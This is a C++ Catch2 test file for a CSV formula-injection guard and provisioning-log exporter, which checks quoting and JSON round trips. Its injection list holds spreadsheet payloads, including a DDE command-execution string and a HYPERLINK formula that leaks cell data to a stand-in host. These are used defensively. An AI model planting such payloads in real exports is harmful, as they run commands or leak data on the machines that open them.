// SPDX-FileCopyrightText: 2026 TenantBridge contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/logs/LogExporter.h"
#include "core/logs/CsvFormulaGuard.h"
#include "core/logs/LogImporter.h"

#include <catch2/catch.hpp>

#include <QBuffer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>

using tb::logs::CsvFormulaGuard;
using tb::logs::LogExporter;
using tb::logs::LogImporter;
using Entry = tb::model::ProvisioningLogEntry;

namespace {

QList<Entry> jsonDownload()
{
    QFile file(QStringLiteral(TB_SOURCE_DIR "/tests/data/logs/admin-center-download.json"));
    REQUIRE(file.open(QIODevice::ReadOnly));
    QList<Entry> records;
    REQUIRE(LogImporter::readAll(file, records).ok);
    REQUIRE(records.size() == 4);
    return records;
}

QByteArray exported(const QList<Entry>& records, LogExporter::Options options, int batchSize = 1000)
{
    QBuffer buffer;
    REQUIRE(buffer.open(QIODevice::WriteOnly));
    LogExporter exporter(buffer, options);
    REQUIRE(exporter.begin());
    for (qsizetype i = 0; i < records.size(); i += batchSize) {
        REQUIRE(exporter.write(records.mid(i, batchSize)));
    }
    REQUIRE(exporter.finish());
    CHECK(exporter.recordsWritten() == records.size());
    return buffer.data();
}

QList<Entry> imported(const QByteArray& bytes)
{
    QBuffer buffer;
    buffer.setData(bytes);
    REQUIRE(buffer.open(QIODevice::ReadOnly));
    QList<Entry> records;
    const LogImporter::Result result = LogImporter::readAll(buffer, records);
    INFO(result.error.toStdString());
    REQUIRE(result.ok);
    return records;
}

// What the CSV carries: everything but the identities' details, and the steps and modified properties unless
// withDetails.
Entry csvPart(Entry entry, bool withDetails)
{
    entry.sourceIdentity.details.clear();
    entry.targetIdentity.details.clear();
    if (!withDetails) {
        entry.steps.clear();
        entry.modifiedProperties.clear();
    }
    return entry;
}

// Values an attacker could put in a display name or an error reason, and harmless ones.
const QStringList kInjections {QStringLiteral("=1+1"), QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("-2"),
    QStringLiteral("@SUM(A1:A9)"), QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"),
    QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"), QStringLiteral("'=1+1"), QStringLiteral("'"),
    QStringLiteral("''"), QStringLiteral("'apostrophe first"), QStringLiteral("safe value"), QStringLiteral("O'Brien"),
    QStringLiteral("a=b"), QStringLiteral("1-2"), QStringLiteral(" =leading space"), QString()};

} // namespace

TEST_CASE("CsvFormulaGuard prefixes cells that start a formula and reads them back exactly", "[logs][export]")
{
    CHECK(CsvFormulaGuard::protect(QStringLiteral("=1+1")) == QLatin1String("'=1+1"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("+cmd")) == QLatin1String("'+cmd"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("-2")) == QLatin1String("'-2"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("@SUM(A1)")) == QLatin1String("'@SUM(A1)"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("\tx")) == QLatin1String("'\tx"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("\rx")) == QLatin1String("'\rx"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("'x")) == QLatin1String("''x"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("safe value")) == QLatin1String("safe value"));
    CHECK(CsvFormulaGuard::protect(QStringLiteral("O'Brien")) == QLatin1String("O'Brien"));
    CHECK(CsvFormulaGuard::protect(QString()).isEmpty());
    // Another tool's apostrophe before ordinary text is data.
    CHECK(CsvFormulaGuard::unprotect(QStringLiteral("'Ohana")) == QLatin1String("'Ohana"));
    for (const QString& value : kInjections) {
        INFO(value.toStdString());
        CHECK(CsvFormulaGuard::unprotect(CsvFormulaGuard::protect(value)) == value);
    }
}

TEST_CASE("LogExporter writes CSV with a BOM, the header, CRLF and every cell quoted and protected", "[logs][export]")
{
    CHECK(LogExporter::csvLine({QStringLiteral("=1+1"), QStringLiteral("say \"hi\""), QStringLiteral("a,b\nc")})
        == QByteArray("\"'=1+1\",\"say \"\"hi\"\"\",\"a,b\nc\"\r\n"));

    Entry entry = jsonDownload().at(1);
    entry.sourceIdentity.displayName = QStringLiteral("@SUM(A1:A9)");
    const QByteArray csv = exported({entry}, {LogExporter::Format::Csv, false});
    REQUIRE(csv.startsWith("\xEF\xBB\xBF\"Id\",\"Date (UTC)\",\"Tenant ID\",\"Job ID\",\"Cycle ID\",\"Change ID\","));
    const QList<QByteArray> lines = csv.split('\n');
    CHECK(lines.at(0).endsWith("\"Recommended action\"\r"));
    CHECK_FALSE(csv.contains("Provisioning steps"));
    CHECK(csv.contains(",\"'@SUM(A1:A9)\","));
    CHECK(csv.contains("\"2026-11-20T10:02:05.000Z\""));
    // The reason's quotes are doubled, its newline kept inside the quotes.
    CHECK(csv.contains(QStringLiteral("failed for \"\"\u5c71\u7530 \u592a\u90ce\"\", because automatic redemption is "
                                      "off.\nThe target tenant")
                           .toUtf8()));
    CHECK(csv.endsWith("\"\r\n"));

    const QByteArray detailed = exported({entry}, {LogExporter::Format::Csv, true});
    CHECK(detailed.contains("\"Provisioning steps (JSON)\",\"Modified properties (JSON)\"\r\n"));
}

TEST_CASE("LogExporter's CSV reads back to the same records, formula-like values included", "[logs][export]")
{
    QList<Entry> records = jsonDownload();
    for (const QString& value : kInjections) {
        Entry entry = records.at(1);
        entry.id = QStringLiteral("injection-%1").arg(records.size());
        entry.sourceIdentity.displayName = value;
        entry.targetIdentity.displayName = value + QStringLiteral(" (target)");
        entry.error.reason = value;
        entry.error.additionalDetails = QStringLiteral("line one\r\nline two, \"quoted\"");
        if (!value.isEmpty()) {
            entry.servicePrincipal.displayName = value;
        }
        records.append(entry);
    }
    for (const bool withDetails : {false, true}) {
        INFO("withDetails " << withDetails);
        const QList<Entry> readBack = imported(exported(records, {LogExporter::Format::Csv, withDetails}, 3));
        REQUIRE(readBack.size() == records.size());
        for (qsizetype i = 0; i < records.size(); ++i) {
            INFO("record " << i + 1 << ": " << records.at(i).sourceIdentity.displayName.toStdString());
            CHECK(readBack.at(i) == csvPart(records.at(i), withDetails));
        }
    }
}

TEST_CASE("LogExporter's JSON is an array of Graph records that reads back in full", "[logs][export]")
{
    QList<Entry> records = jsonDownload();
    Entry odd = records.at(0);
    odd.id = QStringLiteral("odd");
    odd.sourceIdentity.displayName = QStringLiteral("=1+1");
    odd.error.reason = QStringLiteral("\"quoted\",\r\nsecond line");
    records.append(odd);

    const QByteArray json = exported(records, {LogExporter::Format::Json, false}, 2);
    QJsonParseError error {};
    const QJsonDocument document = QJsonDocument::fromJson(json, &error);
    REQUIRE(error.error == QJsonParseError::NoError);
    REQUIRE(document.isArray());
    CHECK(document.array().size() == records.size());
    CHECK(document.array().at(0).toObject().value(QLatin1String("provisioningStatusInfo")).isObject());
    CHECK(json.count('\n') == records.size() + 2); // "[", one record per line, "]"

    CHECK(imported(json) == records);

    const QByteArray empty = exported({}, {LogExporter::Format::Json, false});
    CHECK(QJsonDocument::fromJson(empty).array().isEmpty());
    CHECK(imported(empty).isEmpty());
}

TEST_CASE("LogExporter reports a device that cannot be written", "[logs][export]")
{
    QBuffer buffer;
    buffer.setData("x");
    REQUIRE(buffer.open(QIODevice::ReadOnly));
    LogExporter exporter(buffer, {LogExporter::Format::Csv, false});
    CHECK_FALSE(exporter.begin());
    CHECK(exporter.errorString().startsWith(QLatin1String("cannot write the export")));
    CHECK_FALSE(exporter.write(jsonDownload()));
    CHECK_FALSE(exporter.finish());
}
